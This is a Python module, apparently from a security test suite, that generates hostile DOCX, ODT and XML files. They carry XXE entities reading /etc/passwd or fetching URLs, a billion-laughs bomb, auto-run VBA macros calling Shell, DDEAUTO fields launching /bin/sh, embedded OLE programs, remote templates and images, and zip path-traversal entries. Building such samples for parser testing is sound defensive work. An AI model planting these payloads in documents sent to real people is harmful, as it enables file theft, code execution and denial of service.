"""DOCX and ODT files that fetch, run or hide something."""

import io
import zipfile
from xml.sax.saxutils import escape

from hostile.archives import archive, compound
from hostile.given import Given, Hostile, Kind
from hostile.packages import OFFICE, RELATION, WORD_TYPE, XML, R, W, content_xml, document_xml, docx_parts, odt_parts


def _relation(kind: str, target: str, external: bool = False, number: int = 9) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rId{number}" Type="{RELATION}/{kind}" Target="{escape(target)}"{mode}/>'


OBJECT = "application/vnd.openxmlformats-officedocument.oleObject"
ENTITIES = (
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]>',
    '<!DOCTYPE x SYSTEM "{url}/x.dtd" [<!ENTITY e "x">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p; <!ENTITY e "x">]>',
    '<!DOCTYPE x PUBLIC "-//X//Y" "file://{secret}" [<!ENTITY e SYSTEM "php://filter/resource={url}">]>',
)
LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{level} '{f'&a{level - 1};' * 10}'>" for level in range(1, 11)
)


def external_entity(given: Given) -> Hostile:
    """An entity that is a file of this machine, or an address."""
    doctype = ENTITIES[given.number % len(ENTITIES)].format(secret=given.secret, url=given.url)
    return _with_entity(given, doctype, given.number // len(ENTITIES))


def billion_laughs(given: Given) -> Hostile:
    """Entities of entities: 20 GB of text."""
    return _with_entity(given, f"{LAUGHS}<!ENTITY e '&a10;'>]>", given.number)


def _with_entity(given: Given, doctype: str, turn: int) -> Hostile:
    if turn % 3 == 0:
        more = "<w:p><w:r><w:t>&e;</w:t></w:r></w:p>"
        return Hostile("either", "docx", archive(docx_parts(document_xml(given.text, more, doctype))))
    if turn % 3 == 1:
        return Hostile("either", "odt", archive(odt_parts(content_xml(given.text, "<text:p>&e;</text:p>", doctype))))
    report = f'<Patient xmlns="http://hl7.org/fhir"><text><div>{escape(given.text)} &e;</div></text></Patient>'
    return Hostile("either", "xml", f'<?xml version="1.0"?>{doctype}{report}'.encode())


def macros(given: Given) -> Hostile:
    """A project of Visual Basic that starts on opening, under the ending of such documents or the usual one."""
    code = f'Sub AutoOpen()\r\n Shell "{given.trace}"\r\nEnd Sub\r\nSub Document_Open()\r\n AutoOpen\r\nEnd Sub'
    project = compound({"VBA": code.encode().ljust(4096), "PROJECT": b'ID="{0}"'.ljust(4096)})
    relations = '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
    types = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    parts = docx_parts(document_xml(given.text), f'{relations} Target="vbaProject.bin"/>', types)
    ending = ("docx", "docm")[given.number % 2]
    if ending == "docm":
        plain, with_macros = f"{WORD_TYPE}.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
        parts["[Content_Types].xml"] = str(parts["[Content_Types].xml"]).replace(plain, with_macros)
    content = archive(parts | {"word/vbaProject.bin": project})
    return Hostile("read" if ending == "docx" else "either", ending, content)


def ole_object(given: Given) -> Hostile:
    """An embedded object that is a program, or one by address."""
    thing = f'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" {R} Type="Embed" '
    thing += 'ProgID="Package" ShapeID="s1" DrawAspect="Icon" ObjectID="_1" r:id="rId9"/></w:object></w:r></w:p>'
    by_address = given.number % 2 == 1
    relation = _relation("oleObject", given.url if by_address else "embeddings/oleObject1.bin", by_address)
    program = compound({"\1Ole10Native": b"MZ" + given.trace.encode().ljust(4096)})
    types = f'<Default Extension="bin" ContentType="{OBJECT}"/>'
    parts = docx_parts(document_xml(given.text, thing), relation, types)
    return Hostile("read", "docx", archive(parts | {"word/embeddings/oleObject1.bin": program}))


def template_by_address(given: Given) -> Hostile:
    """A document whose template, or whose part, is at an address."""
    relation = _relation("settings", "settings.xml") + _relation("aFChunk", given.url, True, 10)
    settings = f'{XML}<w:settings {W} {R}><w:attachedTemplate r:id="rId1"/></w:settings>'
    template = _relation("attachedTemplate", f"{given.url}/x.dotm", True, 1)
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    more = {"word/settings.xml": settings}
    more["word/_rels/settings.xml.rels"] = f'{XML}<Relationships xmlns="{space}">{template}</Relationships>'
    parts = docx_parts(document_xml(given.text, '<w:altChunk r:id="rId10"/>'), relation)
    return Hostile("read", "docx", archive(parts | more))


def pictures_by_address(given: Given) -> Hostile:
    """Pictures, sections and scripts that are at an address."""
    if given.number % 2:
        link = 'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:actuate="onLoad"'
        link += f' xlink:href="{given.url}"'
        draw = f'xmlns:draw="{OFFICE}:drawing:1.0"'
        more = f"<text:p {draw}><draw:frame><draw:image {link}/></draw:frame></text:p>"
        more += f'<text:section text:name="s"><text:section-source {link}/></text:section>'
        return Hostile("read", "odt", archive(odt_parts(content_xml(given.text, more))))
    blip = '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId9"/>'
    field = f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;{given.url}&quot; \\d "><w:r><w:t>.</w:t></w:r></w:fldSimple>'
    more = f"<w:p><w:r><w:drawing>{blip}</w:drawing></w:r>{field}</w:p>"
    return Hostile(
        "read", "docx", archive(docx_parts(document_xml(given.text, more), _relation("image", given.url, True)))
    )


def fields_that_run(given: Given) -> Hostile:
    """Fields that start a program or read a file."""
    codes = f'DDEAUTO "/bin/sh" "-c {given.trace}"', f'INCLUDETEXT "{given.secret}"', f'DDE "{given.url}" "x"'
    code = escape(codes[given.number % len(codes)], {'"': "&quot;"})
    more = f'<w:p><w:fldSimple w:instr=" {code} "><w:r><w:t>résultat</w:t></w:r></w:fldSimple></w:p>'
    return Hostile("read", "docx", archive(docx_parts(document_xml(given.text, more))))


def parts_outside(given: Given) -> Hostile:
    """Parts whose names lead out of the folder that they would be unpacked in."""
    names = (
        f"../../{given.mark}.txt",
        f"/tmp/{given.mark}.txt",
        f"..\\..\\{given.mark}.txt",
        f"{given.folder}/canary/{given.mark}",
    )
    parts = docx_parts(document_xml(given.text)) if given.number % 2 else odt_parts(content_xml(given.text))
    ending = "docx" if given.number % 2 else "odt"
    return Hostile("either", ending, archive(parts | dict.fromkeys(names, b"out")))


def main_part_elsewhere(given: Given) -> Hostile:
    """A package whose main part is said to be a file of this machine, an address, or is missing."""
    targets = f"../../../../../..{given.secret}", given.url, "word/missing.xml", f"file://{given.secret}"
    target = targets[given.number % len(targets)]
    parts = docx_parts(document_xml(given.text))
    mode = ' TargetMode="External"' if "://" in target else ""
    parts["_rels/.rels"] = str(parts["_rels/.rels"]).replace('"word/document.xml"', f'"{target}"{mode}')
    return Hostile("either", "docx", archive(parts))


def twice_the_same_part(given: Given) -> Hostile:
    """Two main parts of one name, or one that only the directory has."""
    file = io.BytesIO(archive(docx_parts(document_xml(given.text))))
    with zipfile.ZipFile(file, "a") as opened:
        opened.writestr(zipfile.ZipInfo("WORD/DOCUMENT.XML"), document_xml(given.text))
        opened.writestr(zipfile.ZipInfo("word/document.xml "), b"x")
    return Hostile("either", "docx", file.getvalue())


KINDS = {
    "externalentity": Kind(external_entity, 18),
    "billionlaughs": Kind(billion_laughs, 6),
    "macros": Kind(macros, 8),
    "oleobject": Kind(ole_object, 8),
    "templateaddress": Kind(template_by_address, 6),
    "pictureaddress": Kind(pictures_by_address, 8),
    "officefields": Kind(fields_that_run, 6),
    "partsoutside": Kind(parts_outside, 8),
    "mainelsewhere": Kind(main_part_elsewhere, 8),
    "twiceapart": Kind(twice_the_same_part, 3),
}
